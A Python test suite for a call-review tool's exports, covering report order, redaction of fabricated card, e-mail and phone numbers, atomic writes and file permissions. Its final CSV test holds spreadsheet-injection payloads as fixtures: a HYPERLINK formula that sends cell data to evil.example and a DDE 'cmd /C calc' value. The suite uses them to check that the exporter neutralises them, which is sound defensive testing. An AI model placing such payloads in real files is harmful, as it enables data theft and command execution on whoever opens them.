"""Exports as a QA lead receives them: each file is opened with an independent reader (pypdf,
csv, json, srt, webvtt-py) and checked against the library. Calls come from the real pipeline."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
import srt
import webvtt
from pypdf import PdfReader

from reviewer import actions
from reviewer.actions.exports import export_calls
from reviewer.errors import Cancelled, ReviewerError
from reviewer.importer import store_result
from reviewer.labels import OUTCOME_NAMES, clock, sentiment_change_text
from reviewer.library.store import content_hash
from reviewer.progress import CancelToken
from reviewer.report.redact import redact_text
from reviewer.requests import asked

ALL = ["pdf", "html", "csv", "json", "srt", "vtt"]


def _store(library, result, path: Path) -> int:
    return store_result(library, path, content_hash(path), result)[0]


@pytest.fixture()
def pushback_call(library, processed, pushback):
    call_id = _store(library, processed("pushback"), pushback[1])
    library.add_comment(
        call_id, start=2.0, text="Good greeting with your name.", author="Dana", category="praise"
    )
    library.add_comment(
        call_id,
        start=12.0,
        end=20.0,
        text="Acknowledge the cancel request before asking why.",
        author="Dana",
        category="improve",
    )
    late = library.add_comment(
        call_id,
        start=40.0,
        text="Never put a cancelling customer on hold.",
        author="Dana",
        category="compliance",
    )
    library.update_comment(late, reply="Understood, I will transfer instead.")
    return call_id


def _pdf_text(path: Path) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(path).pages)


def _squash(text: str) -> str:
    return re.sub(r"\s+", " ", text)


def test_pdf_report_holds_details_metrics_picture_comments_and_transcript_in_order(
    library, settings, pushback_call, tmp_path
):
    (path,) = export_calls(library, settings, [pushback_call], ["pdf"], tmp_path / "review.pdf")
    reader = PdfReader(path)
    assert reader.metadata.title == "Call review: pushback stereo.wav"
    text = _squash(_pdf_text(path))
    stored = library.load_call(pushback_call)
    row = stored.row
    share = row.agent_talk_share
    # Page 1: the verdict, the findings, details and metrics; then the timeline picture.
    first = _squash(reader.pages[0].extract_text())
    for expected in ("Call review", "pushback stereo.wav", "Agent Ryan", "Reviewed by Dana"):
        assert expected in first
    assert f"Agent talked {share:.0%} of the time" in first
    assert f"Refusals / push-back {row.refusal_count}" in first
    assert "Longest monologue" in first and "Agent response gap" in first
    picture = _squash(next(p.extract_text() for p in reader.pages if "Timeline" in p.extract_text()))
    assert "Refusals (" in picture and "Comments (3)" in picture  # rows of the picture
    # Comments in time order, before the transcript; the transcript in order with comments in place.
    order = [
        "Coach's comments",
        "Good greeting with your name.",
        "Acknowledge the cancel request before asking why.",
        "Never put a cancelling customer on hold.",
        "Understood, I will transfer instead.",
        "Transcript",
    ]
    positions = [text.index(s) for s in order]
    assert positions == sorted(positions)
    transcript = text[text.index("Transcript") :]
    turns = [t.text for t in stored.transcript.turns]
    at = [transcript.index(_squash(t)[:40]) for t in turns]
    assert at == sorted(at), "turns out of order"
    # The range comment sits between the turns around 0:12.
    comment_at = transcript.index("Acknowledge the cancel request")
    before = [t for t in stored.transcript.turns if t.start <= 12.0][-1]
    after = next(t for t in stored.transcript.turns if t.start > 12.0)
    assert (
        transcript.index(_squash(before.text)[:40]) < comment_at < transcript.index(_squash(after.text)[:40])
    )
    assert "Refusal" in transcript


def test_html_report_is_one_self_contained_file(library, settings, pushback_call, tmp_path):
    (path,) = export_calls(library, settings, [pushback_call], ["html"], tmp_path / "review.html")
    html = path.read_text(encoding="utf-8")
    for banned in ("<script", "<link", "src=", "href=", "url(", "@import", "http://", "https://"):
        assert banned not in html.lower(), banned
    assert "<svg" in html and "Timeline of pushback stereo.wav" in html
    stored = library.load_call(pushback_call)
    from html import unescape

    plain = unescape(re.sub(r"<[^>]+>", " ", html))
    plain = _squash(plain)
    for t in stored.transcript.turns:
        assert _squash(t.text) in plain
    positions = [
        plain.index(s)
        for s in ("Metrics", "Coach's comments", "Good greeting", "Acknowledge the cancel", "Transcript")
    ]
    assert positions == sorted(positions)
    # The same order and the same words as the PDF: the verdict first, then the findings.
    score = actions.scores.score(library, pushback_call)
    body = _squash(unescape(re.sub(r"<[^>]+>", " ", html.split("<body>", 1)[1]))).strip()
    assert body.startswith(f"Score {score.total:g} / 100 — {score.verdict}")
    assert tuple(unescape(h) for h in re.findall(r"<h2>(.*?)</h2>", html)) == PARTS
    (pdf,) = export_calls(library, settings, [pushback_call], ["pdf"], tmp_path / "review.pdf")
    pdf_text = _squash(_pdf_text(pdf))
    for line in (f"Score {score.total:g} / 100 — {score.verdict}", *_finding_texts(library, pushback_call)):
        assert line in plain and line in pdf_text, line
    assert f"Refusals ({stored.row.refusal_count})" in plain


PARTS = ("Findings", "Call details", "Metrics", "Timeline", "Scorecard", "Coach's comments", "Transcript")


def _finding_texts(library, call_id) -> list[str]:
    """What Findings says of each push-back, in words worked out here from the transcript: the
    request it followed (the customer's turn that asked) and its kind."""
    from reviewer.analysis.pushback import KIND_NAMES
    from reviewer.labels import clock

    stored = library.load_call(call_id)
    roles = {s.id: s.role for s in stored.transcript.speakers}
    asked_at = next(
        t.start for t in stored.transcript.turns if roles[t.speaker] == "customer" and "cancel" in t.text
    )
    return [
        f"after the customer asked to cancel at {clock(asked_at)}; {KIND_NAMES[m.category]}"
        for m in stored.markers
        if m.kind == "refusal"
    ]


def _page_lines(page) -> list[tuple[float, str]]:
    """A PDF page's lines of text from the top down (pieces at one height joined left to
    right), with their height above the bottom edge in points."""
    pieces: dict[float, list[tuple[float, str]]] = {}

    def visit(text, cm, tm, _font, _size):  # noqa: ANN001
        if text.strip():
            y = round(tm[5] * cm[3] + cm[5])
            pieces.setdefault(y, []).append((tm[4] * cm[0] + cm[4], text.strip()))

    page.extract_text(visitor_text=visit)
    return [(y, " ".join(t for _, t in sorted(pieces[y]))) for y in sorted(pieces, reverse=True)]


def test_the_pdf_leads_with_the_score_and_its_state_then_the_findings_that_explain_it(
    library, settings, pushback_call, tmp_path
):
    (path,) = export_calls(library, settings, [pushback_call], ["pdf"], tmp_path / "review.pdf")
    reader = PdfReader(path)
    score = actions.scores.score(library, pushback_call)
    assert score.state == "auto-failed"
    first = [line for _, line in _page_lines(reader.pages[0])]
    assert (
        first[0]
        == "Score 0 / 100 — FAILED (auto-fail: no answer can change it)"
        == f"Score {score.total:g} / 100 — {score.verdict}"
    )
    box = first[: first.index("Call review: pushback stereo.wav")]
    assert box[1] == "Customer care v1, pass mark 75"
    said = _squash(" ".join(box[2:]))
    auto_fail = f"auto-fail: “{score.auto_failed_texts[0]}”"
    # then the call at a glance: why the customer called, how each request ended, how they felt
    stored = library.load_call(pushback_call)
    c = stored.sentiment.customer
    assert said == _squash(
        f"{auto_fail} Reason: {stored.reason.label} ({stored.reason.confidence:.0%} at 0:06) "
        + _outcome_line(stored.outcomes)
        + f" Customer sentiment: {sentiment_change_text(c.start, c.end, c.change)}"
    )
    assert first[len(box) + 1] == "Findings"
    # Each push-back with its time, the request it followed and its kind; talk share against the
    # target; the long stretches and overtalk with their times; the scorecard's failed items.
    text = _squash(_pdf_text(path))
    findings = text[text.index("Findings") : text.index("Call details")]
    stored = library.load_call(pushback_call)
    refusals = [m for m in stored.markers if m.kind == "refusal"]
    assert len(refusals) == 3
    for m, words in zip(refusals, _finding_texts(library, pushback_call), strict=True):
        assert f"{clock(m.start)} Push-back {words}" in findings
    share = stored.row.agent_talk_share
    assert f"Talk share Agent talked {share:.0%} of the time: OVER the 60% target" in findings
    for m in stored.markers:
        if m.kind in ("long_monologue", "long_silence", "overtalk"):
            assert f"{clock(m.start)}–{clock(m.end)}" in findings
    assert f"Nobody spoke for {stored.row.longest_silence_ms / 1000:.1f} s" in findings
    assert (
        f"Failed item “{score.auto_failed_texts[0]}” (auto-fail): 3 push-backs after any request" in findings
    )
    lines = [line for page in reader.pages for _, line in _page_lines(page)]
    assert [line for line in lines if line in PARTS] == list(PARTS)


def test_a_failed_call_within_the_talk_share_target_is_boxed_as_failed(
    library, settings, pushback_call, tmp_path
):
    """The verdict box is the score, never the talk share: a call that failed its scorecard
    with the agent within the talk-share target is not boxed as "within the target"."""
    lenient = settings.replace(agent_share_target=0.8)
    (path,) = export_calls(library, lenient, [pushback_call], ["pdf", "html"], tmp_path)[:1]
    first = [line for _, line in _page_lines(PdfReader(path).pages[0])]
    box = " ".join(first[: first.index(next(line for line in first if line in PARTS))])
    assert "within" not in box and "talked" not in box
    assert box.startswith(
        "Score 0 / 100 — FAILED (auto-fail: no answer can change it) Customer care v1, pass mark 75"
    )
    text = _squash(_pdf_text(path))
    assert "Agent talked 75% of the time: within the 80% target" in text  # in Findings


def test_a_report_without_a_scorecard_says_not_scored(library, settings, pushback_call):
    from dataclasses import replace

    from reviewer.actions.exports import load_report
    from reviewer.report.html import html_bytes
    from reviewer.report.pdf import pdf_bytes

    report = replace(load_report(library, pushback_call, settings), score=None, rules={})
    first = [line for _, line in _page_lines(PdfReader(io.BytesIO(pdf_bytes(report))).pages[0])]
    assert first[0] == "Not scored" and "talked" not in first[1]
    html = html_bytes(report).decode()
    assert '<p class="score">Not scored</p>' in html and '<section class="scorecard">' not in html


HEADINGS = {
    *PARTS,
    "When Finding What happened",
    "Item Result Points Evidence Notes",
    "# Time Category Comment",
}


@pytest.mark.slow  # 20 s or more of real speech or a full command-line run: `make test-slow` and CI run it
def test_no_page_ends_with_a_heading(library, settings, pushback_call):
    """Calls of every length of name (which moves everything below it down the page): on no page
    is the last line a heading, a table's column headings, a scorecard section's title or the
    lines that head the scorecard; each keeps the first rows of what it heads."""
    from dataclasses import replace

    from reviewer.actions.exports import load_report
    from reviewer.report.pdf import pdf_bytes

    actions.scores.dispute_item(library, pushback_call, "greeting", "I said my name twice.", author="Ryan")
    report = load_report(library, pushback_call, settings)
    sections = {s.title.upper() for s in report.score.sections}
    heads = ("Customer care v1", "How the total was reached", *(f"{s} ·" for s in sections))
    for k in range(14):
        name = "pushback stereo" + " recorded at the Leeds office" * k + ".wav"
        pages = PdfReader(io.BytesIO(pdf_bytes(replace(report, row=replace(report.row, name=name))))).pages
        for n, page in enumerate(pages, 1):
            body = [line for y, line in _page_lines(page) if y > 16 / 25.4 * 72]  # above the footer
            last = body[-1]
            lone = last in HEADINGS or last in sections or last.startswith(heads)
            assert not lone, f"{k}: page {n} ends with {last!r}"
        assert len(pages) >= 3


def test_json_and_csv_round_trip_with_the_library(library, settings, pushback_call, tmp_path):
    paths = export_calls(library, settings, [pushback_call], ["json", "csv"], tmp_path / "out")
    assert sorted(p.name for p in paths) == ["pushback stereo.csv", "pushback stereo.json"]
    doc = json.loads((tmp_path / "out" / "pushback stereo.json").read_text(encoding="utf-8"))
    stored = library.load_call(pushback_call)
    t = stored.transcript
    assert doc["call"]["duration"] == pytest.approx(t.duration)
    assert [(x["speaker"], x["text"]) for x in doc["turns"]] == [(x.speaker, x.text) for x in t.turns]
    assert [x["start"] for x in doc["turns"]] == pytest.approx([x.start for x in t.turns], abs=1e-3)
    assert len(doc["words"]) == len(t.words) and doc["words"][0]["text"] == t.words[0].text
    assert [(m["kind"], m["start"]) for m in doc["markers"]] == [
        (m.kind, pytest.approx(m.start, abs=1e-3)) for m in stored.markers
    ]
    refusals = [m for m in doc["markers"] if m["kind"] == "refusal"]
    assert refusals and all(0 < m["confidence"] <= 1 and m["request"] == "cancel" for m in refusals)
    assert {s["id"]: s["role"] for s in doc["speakers"]} == {s.id: s.role for s in t.speakers}
    assert doc["metrics"]["refusal_count"] == stored.row.refusal_count
    assert doc["metrics"]["agent_talk_share"] == pytest.approx(stored.row.agent_talk_share)
    comments = library.comments(pushback_call)
    assert [(c["start"], c["end"], c["category"], c["text"], c["reply"]) for c in doc["comments"]] == [
        (c.start, c.end, c.category, c.text, c.reply) for c in comments
    ]

    with open(tmp_path / "out" / "pushback stereo.csv", encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == len(stored.markers) + len(comments)
    assert [float(r["start_s"]) for r in rows] == sorted(float(r["start_s"]) for r in rows)
    for r in rows:
        m, s = divmod(int(float(r["start_s"]) + 0.5), 60)  # to the nearest second, as everywhere
        assert r["start"] == f"{m:02d}:{s:02d}"
    by_type = {(r["type"], r["kind"]) for r in rows}
    assert ("marker", "refusal") in by_type and ("comment", "improve") in by_type
    rng = next(r for r in rows if r["type"] == "comment" and r["kind"] == "improve")
    assert (rng["start"], rng["end"], float(rng["duration_s"])) == ("00:12", "00:20", 8.0)


def test_srt_and_vtt_are_valid_subtitles_with_speaker_labels(library, settings, pushback_call, tmp_path):
    export_calls(library, settings, [pushback_call], ["srt", "vtt"], tmp_path)
    stored = library.load_call(pushback_call)
    duration = stored.transcript.duration
    subs = list(srt.parse((tmp_path / "pushback stereo.srt").read_text(encoding="utf-8")))
    vtt = webvtt.read(str(tmp_path / "pushback stereo.vtt"))
    assert len(subs) == len(vtt.captions) >= len(stored.transcript.turns)
    for sub, cap in zip(subs, vtt.captions, strict=True):
        assert 0 <= sub.start.total_seconds() < sub.end.total_seconds() <= duration + 0.5
        assert sub.end.total_seconds() - sub.start.total_seconds() <= 12
        who, said = sub.content.split(": ", 1)
        assert who in ("Agent (Ryan)", "Customer S2", "Customer S1", "Agent S1", "Agent S2")
        assert cap.voice == who and cap.text == said
        assert cap.start_in_seconds == int(sub.start.total_seconds())
    spoken = " ".join(s.content.split(": ", 1)[1] for s in subs)
    assert _squash(spoken) == _squash(" ".join(t.text for t in stored.transcript.turns))


def test_batch_summary_has_one_row_per_call_chosen_by_a_search(
    library, settings, pushback_call, processed, clean, short_call, tmp_path
):
    clean_id = _store(library, processed("clean"), clean[1])
    chosen = library.select_calls(search="cancel")
    assert set(chosen) == {pushback_call, clean_id}
    export_calls(library, settings, chosen, ["summary"], tmp_path / "week.csv")
    with open(tmp_path / "week.csv", encoding="utf-8-sig", newline="") as f:
        rows = {int(r["call_id"]): r for r in csv.DictReader(f)}
    assert set(rows) == {pushback_call, clean_id}
    for call_id, r in rows.items():
        row = library.call_row(call_id)
        assert int(r["refusals"]) == row.refusal_count
        assert float(r["agent_talk_share"]) == pytest.approx(row.agent_talk_share, abs=0.001)
        assert float(r["duration_s"]) == pytest.approx(row.duration_ms / 1000, abs=0.05)
        assert float(r["longest_monologue_s"]) == pytest.approx(row.longest_monologue_ms / 1000, abs=0.05)
    assert rows[pushback_call]["comments"] == "3" and rows[pushback_call]["comments_improve"] == "1"
    assert rows[clean_id]["comments"] == "0"
    assert rows[pushback_call]["agent"] == "Ryan"
    assert int(rows[pushback_call]["refusals"]) > int(rows[clean_id]["refusals"])


def _sensitive_call(library, settings, tmp_path) -> int:
    """A transcript in which the customer reads out a card, an e-mail, a phone number and an
    account number (as Whisper writes them: digits, or words); analysed by the real analysis."""
    from reviewer.analysis import analyse_transcript
    from reviewer.model import Speaker, Transcript, Word

    lines = [
        ("S1", "Thank you for calling, my name is Ana, how can I help?"),
        ("S2", "My card number is 4111 1111 1111 1111 and it expires soon."),
        ("S1", "Thanks. What is your e-mail address?"),
        ("S2", "It is john.smith@example.com or call me on (555) 867-5309."),
        ("S1", "And the account number, please?"),
        ("S2", "Four five six seven eight nine. Or 00123456 on the old bill."),
        ("S1", "Thank you, that is all I need."),
    ]
    words, t = [], 0.5
    for speaker, text in lines:
        for w in text.split():
            words.append(Word(t, t + 0.3, w, speaker))
            t += 0.35
        t += 1.0
    transcript = Transcript(
        t + 1, 2, "channels", [Speaker("S1", channel=0), Speaker("S2", channel=1)], words, []
    )
    transcript, analysis = analyse_transcript(transcript, settings)
    audio = tmp_path / "sensitive.wav"
    audio.write_bytes(b"RIFF")
    call_id, _ = actions.calls.store_call(
        library,
        audio,
        "sensitive",
        transcript,
        analysis,
        source_channels=2,
        source_rate=8000,
        dual_mono=False,
    )
    library.add_comment(
        call_id,
        start=2.0,
        text="She read 4111 1111 1111 1111 aloud; tell her not to.",
        author="Dana",
        category="compliance",
    )
    return call_id


SECRETS = ("4111", "1111 1111", "john.smith", "example.com", "867-5309", "867", "00123456", "four five six")


def test_redaction_masks_numbers_and_emails_in_every_format_and_leaves_the_library(
    library, settings, tmp_path
):
    call_id = _sensitive_call(library, settings, tmp_path)
    paths = export_calls(library, settings, [call_id], [*ALL, "summary"], tmp_path / "out", redact=True)
    assert len(paths) == 7
    for path in paths:
        text = _pdf_text(path) if path.suffix == ".pdf" else path.read_text(encoding="utf-8-sig")
        low = text.lower()
        for secret in SECRETS:
            assert secret not in low, f"{secret!r} left in {path.name}"
        if path.name != "summary.csv":
            assert "[card number]" in text or path.suffix == ".csv", path.name
    doc = json.loads((tmp_path / "out" / "sensitive.json").read_text(encoding="utf-8"))
    said = " ".join(t["text"] for t in doc["turns"])
    assert "[card number]" in said and "[email]" in said and "[phone number]" in said and "[number]" in said
    assert _squash(" ".join(w["text"] for w in doc["words"])) == _squash(said)
    assert doc["redacted"] is True
    # The library still holds what was said.
    stored = library.load_call(call_id)
    assert "4111 1111 1111 1111" in " ".join(t.text for t in stored.transcript.turns)
    assert "4111" in library.comments(call_id)[0].text


def test_redaction_of_a_real_call_masks_the_account_number_read_aloud(
    library, settings, processed, clean, tmp_path
):
    result = processed("clean")
    said = " ".join(t.text for t in result.transcript.turns)
    masked = redact_text(said)
    assert "[number]" in masked or "[phone number]" in masked, said
    assert not re.search(r"\d(?:\W?\d){5}", masked)
    assert not re.search(r"four\W+five\W+six", masked, re.IGNORECASE)
    assert "cancel" in masked  # ordinary words are left alone


def test_redaction_leaves_ordinary_numbers(settings):
    text = "I pay $20 a month since 2019, for 6 months, at 5 pm on the 12th."
    assert redact_text(text) == text


def test_an_export_never_leaves_a_half_written_file(library, settings, pushback_call, tmp_path, monkeypatch):
    out = tmp_path / "reports"
    out.mkdir()
    target = out / "review.pdf"
    target.write_bytes(b"%PDF old report")
    import reviewer.report.export as export

    def disk_full(fd):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(export.os, "fsync", disk_full)  # fails after the new bytes were written
    with pytest.raises(ReviewerError, match=r"^No space left on the disk of .* while writing review\.pdf;"):
        export_calls(library, settings, [pushback_call], ["pdf"], target)  # one sentence, no traceback
    assert target.read_bytes() == b"%PDF old report"
    assert [p.name for p in out.iterdir()] == ["review.pdf"]


def test_cancel_stops_between_files_and_keeps_whole_ones(library, settings, pushback_call, tmp_path):
    token = CancelToken()
    written = []

    def on_written(path):
        written.append(path)
        token.cancel()

    with pytest.raises(Cancelled):
        export_calls(
            library,
            settings,
            [pushback_call],
            ["json", "csv"],
            tmp_path / "out",
            cancel=token,
            written=on_written,
        )
    assert [p.name for p in written] == ["pushback stereo.json"]
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["pushback stereo.json"]
    json.loads(written[0].read_text(encoding="utf-8"))


def test_several_calls_go_to_a_folder_with_distinct_names(library, settings, pushback_call, tmp_path):
    with pytest.raises(ReviewerError, match="does not end in .pdf"):
        export_calls(library, settings, [pushback_call], ["pdf"], tmp_path / "x.html")
    from reviewer.report.export import plan_exports

    plans = plan_exports({1: "a.wav", 2: "a.mp3", 3: "b.wav"}, ["pdf", "summary"], tmp_path / "week")
    assert [p.path.name for p in plans] == ["summary.csv", "a (#1).pdf", "a (#2).pdf", "b.pdf"]


def test_export_from_the_command_line(library, settings, pushback_call, tmp_path):
    from reviewer.cli import main

    library.close()
    out = tmp_path / "qa"
    assert (
        main(["--library", str(library.path), "export", "--all", "-f", "pdf,summary", "-o", str(out), "-q"])
        == 0
    )
    assert sorted(p.name for p in out.iterdir()) == ["pushback stereo.pdf", "summary.csv"]
    assert (
        main(["--library", str(library.path), "export", "--search", "zebra", "-o", str(out / "z.pdf")]) == 1
    )
    assert main(["--library", str(library.path), "export", "1", "-o", str(out / "z.docx")]) == 1
    pdf = io.BytesIO((out / "pushback stereo.pdf").read_bytes())
    assert "Call review" in PdfReader(pdf).pages[0].extract_text()


def test_a_moment_reads_the_same_in_the_cli_the_app_and_every_report():
    """One clock: rounded to the nearest second (or tenth), so 65.6 s is 1:06 wherever it is
    shown, and a time shown to the tenth parses back to itself."""
    from reviewer import labels
    from reviewer.cli.common import clock
    from reviewer.report import common

    assert clock(65.6) == labels.clock(65.6) == common.span(65.6, None) == "1:06"
    assert labels.mmss(65.6) == "01:06"
    for seconds in (1.2, 12.2, 61.3, 1.15, 3599.96):
        shown = labels.clock(seconds, tenths=True)
        assert labels.parse_time(shown) == pytest.approx(round(seconds + 1e-9, 1)), shown
    assert labels.clock(1.2, tenths=True) == "0:01.2" and labels.clock(61.3, tenths=True) == "1:01.3"
    with pytest.raises(ValueError, match="is not a time"):
        labels.parse_time("noon")


def _umask_now() -> int:
    """The process's umask as the kernel reports it (Linux), without changing it."""
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("Umask:"):
            return int(line.split()[1], 8)
    raise AssertionError("no Umask line")


@pytest.mark.skipif(not Path("/proc/self/status").is_file(), reason="reads the umask from /proc")
def test_writing_an_export_never_opens_up_the_umask_for_other_threads(tmp_path):
    """Files that other threads create while an export is written get the user's umask: the
    export never sets the process-wide umask to 0, not even for a moment (the umask is read
    after every call into C while the files are written). New exports get the mode a new file
    gets; a replaced one keeps its own."""
    import os
    import sys

    from reviewer.report.export import write_atomic

    seen: set[int] = set()

    def watch(_frame, event: str, _arg) -> None:  # noqa: ANN001
        if event == "c_return":
            seen.add(_umask_now())

    private = tmp_path / "private.csv"
    private.write_bytes(b"old")
    private.chmod(0o600)
    old = os.umask(0o027)
    sys.setprofile(watch)
    try:
        write_atomic(tmp_path / "new.csv", b"call_id\n1\n", private=False)
        write_atomic(tmp_path / "mine.csv", b"call_id\n1\n")
        write_atomic(private, b"new")
    finally:
        sys.setprofile(None)
        os.umask(old)
    assert seen == {0o027}
    assert (tmp_path / "new.csv").stat().st_mode & 0o777 == 0o640
    assert (tmp_path / "mine.csv").stat().st_mode & 0o777 == 0o600  # an export is owner-only by default
    assert private.stat().st_mode & 0o777 == 0o600 and private.read_bytes() == b"new"


def test_a_turn_longer_than_a_page_goes_on_over_pages(library, pushback_call, settings):
    """A ten-minute monologue is one turn: the PDF carries it over pages rather than failing."""
    from dataclasses import replace

    from reviewer.actions.exports import load_report
    from reviewer.model import Turn
    from reviewer.report.pdf import pdf_bytes

    report = load_report(library, pushback_call, settings)
    speech = " ".join(f"word{n}" for n in range(3000))
    long_turn = Turn(report.turns[0].speaker, 1.0, 600.0, speech, 3000)
    pages = PdfReader(io.BytesIO(pdf_bytes(replace(report, turns=[long_turn, *report.turns[1:]])))).pages
    text = " ".join(page.extract_text() for page in pages)
    assert "word0 " in text and "word2999" in text and len(pages) > 4


# -- CSV cells a spreadsheet would run (issue 27) ------------------------------------------------


def test_csv_cells_that_start_a_formula_are_neutralised_and_numbers_stay_numbers(library, settings, tmp_path):
    from reviewer.actions.corrections import rename_speaker
    from reviewer.actions.exports import ReportSource
    from reviewer.model import Clip
    from reviewer.report.clips import clip_excerpt, playlist_csv
    from reviewer.report.tables import csv_cell

    cells = ("-3", "+1.5", "-0.25", -4, 2.5, "=1+2", "@SUM(1)", "\t=1", "-x", "a=b")
    assert [csv_cell(v) for v in cells] == [
        "-3",
        "+1.5",
        "-0.25",
        -4,
        2.5,
        "'=1+2",
        "'@SUM(1)",
        "'\t=1",
        "'-x",
        "a=b",
    ]
    call_id = _sensitive_call(library, settings, tmp_path)
    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    library.add_comment(call_id, start=1.0, text=hyperlink, author="@SUM(1+1)*cmd|' /C calc'!A0")
    rename_speaker(library, call_id, "S1", name="=1+2", settings=settings)
    export_calls(library, settings, [call_id], ["csv", "summary"], tmp_path / "out", redact=False)
    cells = []
    for name in ("sensitive.csv", "summary.csv"):
        rows = list(csv.reader(io.StringIO((tmp_path / "out" / name).read_text(encoding="utf-8-sig"))))
        cells += [c for row in rows for c in row]
    assert "'" + hyperlink in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert not [c for c in cells if c[:1] in ("=", "@", "+", "\t", "\r")], cells
    assert not [c for c in cells if c[:1] == "-" and not re.fullmatch(r"-[\d.]+", c)], cells
    assert any(c.startswith("'=1+2") for c in cells)  # the agent's name, wherever it is listed
    clip = Clip(1, call_id, 500, 4000, "=cmd()", "+note", call_name="sensitive.wav")
    x = clip_excerpt(ReportSource(library), settings, clip, redact=False)
    rows = list(csv.reader(io.StringIO(playlist_csv([("01 cmd.mp3", x)]).decode("utf-8-sig"))))
    assert rows[1][2:3] == ["'=cmd()"] and rows[1][7] == "'+note" and rows[1][8][:1] not in "=+-@"


def _outcome_line(outcomes) -> str:  # noqa: ANN001
    """The report's outcome line: one request's outcome said once, several each after its time."""
    last = OUTCOME_NAMES[outcomes[-1].outcome]
    if len(outcomes) == 1:
        return f"Outcome: {last} ({asked(outcomes[0].kind)} at {clock(outcomes[0].start)})"
    each = "; ".join(f"{asked(o.kind)} at {clock(o.start)}: {o.outcome}" for o in outcomes)
    return f"Outcome: {last} — {each}"
